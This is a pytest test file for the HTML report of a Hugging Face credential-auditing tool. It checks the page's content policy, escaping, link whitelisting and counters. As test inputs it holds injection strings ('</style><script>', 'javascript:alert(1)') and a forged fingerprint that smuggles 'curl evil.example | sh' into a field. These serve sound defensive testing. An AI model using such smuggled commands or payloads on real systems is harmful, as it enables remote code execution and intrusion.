"""The page as a file: one policy that allows nothing but its own style and script, and every text escaped."""

from __future__ import annotations

import base64
import hashlib
import re
from dataclasses import replace
from datetime import datetime, timezone
from html import unescape
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.support import reports
from tests.support.mint import Mint
from tokenaudit import model
from tokenaudit.map_text import map_text
from tokenaudit.model import Severity
from tokenaudit.report import Options, render
from tokenaudit.report.html.credential_view import diff
from tokenaudit.report.html.plots import LAYOUTS, exposure_plot
from tokenaudit.report.html.view_model import page as view_of
from tokenaudit.report.presentation import findings
from tokenaudit.secret import Secret

OURS = {"credential", "active", "write", "over", "trusted-publisher", "needed", "high", "tokenaudit/report/1"}


class Tags(HTMLParser):
    """Collects the elements of a page with their attributes' names."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, tuple[str, ...]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, tuple(name for name, _ in attrs)))


def a_leak() -> model.Report:
    return reports.leaked(Secret(Mint(3).user_token()))


def test_the_policy_names_exactly_the_style_and_the_script_of_the_page() -> None:
    page = render(a_leak(), "html")
    policy = re.search(r'Content-Security-Policy" content="([^"]+)"', page)
    assert policy is not None
    assert "default-src &#39;none&#39;" in policy.group(1)
    assert "unsafe" not in policy.group(1)
    for tag in ("style", "script"):
        text = re.findall(f"<{tag}>(.*?)</{tag}>", page, re.DOTALL)
        assert len(text) == 1
        assert base64.b64encode(hashlib.sha256(text[0].encode()).digest()).decode() in policy.group(1)


def test_nothing_is_loaded_from_anywhere() -> None:
    tags = Tags(render(reports.breach(20, 5), "html")).seen
    assert not {"img", "link", "iframe", "object", "embed", "video", "audio", "base"} & {tag for tag, _ in tags}
    assert not any("src" in names or "style" in names for _, names in tags)


@settings(max_examples=20, deadline=None)
@given(
    st.one_of(
        st.text(st.characters(), max_size=20),
        st.text(st.sampled_from(list("<>\"'&=/ `{}%#-!")), max_size=20),
        st.sampled_from(["{{ 7*7 }}", "{% raw %}", "</style><script>", "<!--", "]]>", "' onx='"]),
    )
)
def test_no_text_makes_markup(hostile: str) -> None:
    """A page whose texts are hostile has element for element and attribute for attribute what the tame one has."""
    kept = {*OURS, a_leak().credentials[0].fingerprint}
    tame = map_text(a_leak(), lambda text: text if text in kept else f"{text}x")
    nasty = map_text(a_leak(), lambda text: text if text in kept else f"{text}x{hostile}")
    # A patch is shown line by line, so that line breaks in it are no breach; backticks mark code, which does nothing.
    assert _without_code(nasty) == _without_code(tame)
    page = render(nasty, "html")
    page.encode()
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069]", page)


def _without_code(report: model.Report) -> list[tuple[str, tuple[str, ...]]]:
    return [element for element in Tags(_without_patch(report)).seen if element != ("code", ())]


def _without_patch(report: model.Report) -> str:
    credential = report.credentials[0]
    assert credential.recommendation is not None
    bare = replace(credential, recommendation=replace(credential.recommendation, patch=None))
    return render(replace(report, credentials=(bare,)), "html")


def test_the_rotation_of_a_credential_is_shown_where_it_is_known() -> None:
    report = a_leak()
    page = render(
        report, "html", rotation={report.credentials[0].fingerprint: "replacement stored, old one not revoked"}
    )
    assert "replacement stored, old one not revoked" in page


def test_the_reason_behind_a_rule_is_shown_where_the_reference_is_given() -> None:
    rule = model.Rule(
        "ci-token-in-argv", "Token in argv", Severity.HIGH, "Every process sees it.", "Use env.", "x", "y"
    )
    assert "Every process sees it." in render(a_leak(), "html", rules={rule.id: rule})


def test_a_clean_page_says_so_and_an_incomplete_one_does_not() -> None:
    assert "<b>Clean: " in render(reports.clean(), "html")
    incomplete = render(reports.incomplete(), "html")
    assert "Clean" not in incomplete
    assert incomplete.count("a shallow clone") == 1


COMMIT = "4f1c2a9d0b7e8f6a5c3d1e2f4a6b8c0d2e4f6a8b"


def located(report: model.Report, **fields: object) -> model.Report:
    """`report` of a repository with a HEAD and `fields` of its targets."""
    targets = tuple(replace(target, head=COMMIT, **fields) for target in report.targets)  # type: ignore[arg-type]
    return replace(report, targets=targets, command="tokenaudit scan --inspect", endpoint="https://huggingface.co")


def head_of(page: str) -> str:
    """The text from the title to the verdict, without elements."""
    part = page[page.index("<title>") : page.index('id="verdict"')]
    part = re.sub(r"<style>.*?</style>", "", part, flags=re.DOTALL)
    return unescape(re.sub(r"\s+", " ", re.sub(r"<[^>]*>", " ", part)))


def test_the_title_and_the_first_lines_say_what_was_audited() -> None:
    page = render(located(a_leak(), web_page="https://github.com/acme/webshop"), "html")
    assert re.search(r"<title>github\.com/acme/webshop: 1 credential .* 2026-10-12</title>", page)
    first = head_of(page)
    for part in (
        "Hugging Face credentials in github.com/acme/webshop",
        "Commit 4f1c2a9d0b7e",
        "Hub https://huggingface.co",
        "Command tokenaudit scan --inspect",
        "Time 2026-10-12 09:30 UTC",
    ):
        assert part in first
    offline = head_of(render(replace(located(a_leak()), endpoint=None), "html"))
    assert "Hub not asked (offline)" in offline


def test_a_folder_is_named_even_where_the_target_is_a_dot() -> None:
    report = a_leak()
    here = replace(report, targets=(model.Target(".", "git", 1, 1, repository=".", name="webshop"),))
    assert "<title>webshop: " in render(here, "html")


def test_many_repositories_of_one_owner_are_named_by_the_owner() -> None:
    assert "Hugging Face credentials in acme (10 targets)" in head_of(render(located(reports.breach(5, 2)), "html"))


def test_places_lead_to_the_file_at_the_commit() -> None:
    page = render(located(a_leak(), web_page="https://github.com/acme/webshop"), "html")
    base = f"https://github.com/acme/webshop/blob/{COMMIT}"
    links = re.findall(r'href="(https://github[^"]*)"', page)
    assert f"{base}/.github/workflows/publish.yml#L14" in links
    assert f"{base}/scripts/old.sh#L3" in links
    assert f"https://github.com/acme/webshop/commit/{COMMIT}" in links


def test_places_on_the_hub_lead_there() -> None:
    report = a_leak()
    spots = (
        model.Location("space-variable", "spaces/acme/app", "HF_TOKEN"),
        model.Location("discussion", "spaces/acme/app", "discussions/7"),
        model.Location("history", "spaces/acme/app", "app.py", 3, commit=COMMIT, reachable=True),
        model.Location("history", "spaces/acme/app", "gone.py", 3, commit=COMMIT[::-1], reachable=False),
    )
    there = replace(
        report,
        targets=(model.Target("spaces/acme/app", "space"),),
        credentials=(replace(report.credentials[0], locations=spots),),
        endpoint="https://huggingface.co",
    )
    page = render(there, "html")
    space = "https://huggingface.co/spaces/acme/app"
    for link in (f"{space}/settings", f"{space}/discussions/7", f"{space}/blob/{COMMIT}/app.py#L3"):
        assert f'href="{link}"' in page
    assert "gone.py:3" in page
    assert "gone.py#L3" not in page, "an unreachable commit need not be there"
    local = replace(there, targets=(model.Target("spaces/acme/app", "git", repository="spaces/acme/app"),))
    assert space not in render(local, "html"), "a local folder can have the name of a repository"


@pytest.mark.parametrize("address", ["https://evil.example/acme/x", "javascript:alert(1)", "https://github.com/a"])
def test_no_link_to_an_address_that_is_not_known(address: str) -> None:
    page = render(located(a_leak(), web_page=address), "html")
    assert not re.findall(r'href="(?!#|https://huggingface\.co/)[^"]*"', page)


@pytest.mark.parametrize(("number", "spots"), [(0, 0), (1, 3), (7, 2), (60, 4)])
def test_the_parts_of_each_counter_add_up_to_it(number: int, spots: int) -> None:
    report = reports.breach(number, spots)
    view = view_of(report, Options())
    likely = len(report.credentials)
    totals = {counter.title: counter for counter in view.counters}
    assert next(iter(totals.values())).number == likely + len(report.problems)
    for counter in view.counters:
        assert not counter.parts or sum(part.number for part in counter.parts) == counter.number
    listed = sum(row.count for row in (*view.rows, *view.dead))
    assert listed == view.findings == likely + len(report.problems)
    usable = next(counter.number for title, counter in totals.items() if title.startswith("usable credential"))
    assert usable + len(view.dead) == likely


def test_credentials_and_problems_are_one_list_in_the_one_order() -> None:
    report = reports.breach(60, 3)
    view = view_of(report, Options())
    ranks = [list(Severity).index(Severity(row.severity)) for row in view.rows]
    assert ranks == sorted(ranks, reverse=True)
    assert {row.credential is None for row in view.rows} == {True, False}
    order = [each.fingerprint for each in findings(report) if isinstance(each, model.Credential) and not each.dead]
    assert [row.credential.credential.fingerprint for row in view.rows if row.credential] == order


def test_critical_findings_are_open_and_dead_ones_folded() -> None:
    view = view_of(reports.breach(60, 3), Options())
    assert all(row.is_open == (row.severity == "critical") for row in view.rows)
    assert view.dead
    assert not any(row.is_open for row in view.dead)
    assert {row.status for row in view.dead} == {"invalid", "expired"}
    text = render(reports.breach(60, 3), "html")
    dead = text[text.index('id="dead-rows"') :].partition("</ol>\n</details></li>")[0]
    assert "Replace it with" not in dead


def test_problems_of_one_rule_in_a_row_are_one_line_and_their_text_is_there_once() -> None:
    problem = a_leak().problems[0]
    three = tuple(replace(problem, line=line) for line in (3, 4, 5))
    view = view_of(replace(a_leak(), credentials=(), problems=three), Options())
    assert [row.count for row in view.rows] == [3]
    text = render(replace(a_leak(), credentials=(), problems=three), "html")
    assert text.count(problem.message) == 1
    assert text.count(problem.remedy) == 1
    assert all(f"publish.yml:{line}" in text for line in (3, 4, 5))


def test_plots_are_described_in_words() -> None:
    text = render(reports.breach(12, 3), "html")
    for name in ("exposure", "reach"):
        part = text[text.index(f'<section id="{name}"') :].partition("</section>")[0]
        caption = unescape(part.partition("<figcaption>")[2].partition("</figcaption>")[0])
        assert "usable credentials" in caption
        assert "aria-label" in part
        assert part.count('<a href="#c-') == part.count("</a>") > 0


@given(
    st.lists(st.datetimes(timezones=st.just(timezone.utc)), max_size=6), st.datetimes(timezones=st.just(timezone.utc))
)
def test_the_plot_of_exposure_holds_any_times(dates: list[datetime], now: datetime) -> None:
    base = a_leak().credentials[0]
    credentials = [replace(base, locations=(replace(base.locations[0], date=date),), inspection=None) for date in dates]
    for layout in LAYOUTS:
        plot = exposure_plot(credentials, now, layout)
        if not dates:
            assert plot is None
            continue
        assert plot is not None
        places = [row.start for row in plot.rows] + [tick.at for tick in (*plot.times, *plot.incidents)]
        assert all(plot.left <= place <= plot.right for place in places)
        assert sum(layer.number for layer in plot.layers) in {0, len(dates)}
        assert len(plot.times) <= 3 * layout.ticks


def test_incidents_stand_on_the_timeline() -> None:
    assert "platform-2026-07" in render(reports.breach(5, 3), "html")


def test_lines_of_a_patch_have_their_sorts() -> None:
    patch = "--- a/x\n+++ b/x\n@@ -1 +1 @@\n-old\n+new\n same\n"
    assert [sort for sort, _ in diff(patch)] == ["hunk", "hunk", "hunk", "del", "add", "same"]


def test_a_fingerprint_that_is_none_is_not_offered_as_a_command() -> None:
    report = a_leak()
    assert "Copy rotate command" in render(report, "html")
    forged = replace(report.credentials[0], fingerprint="x; curl evil.example | sh")
    assert "Copy rotate command" not in render(replace(report, credentials=(forged,)), "html")
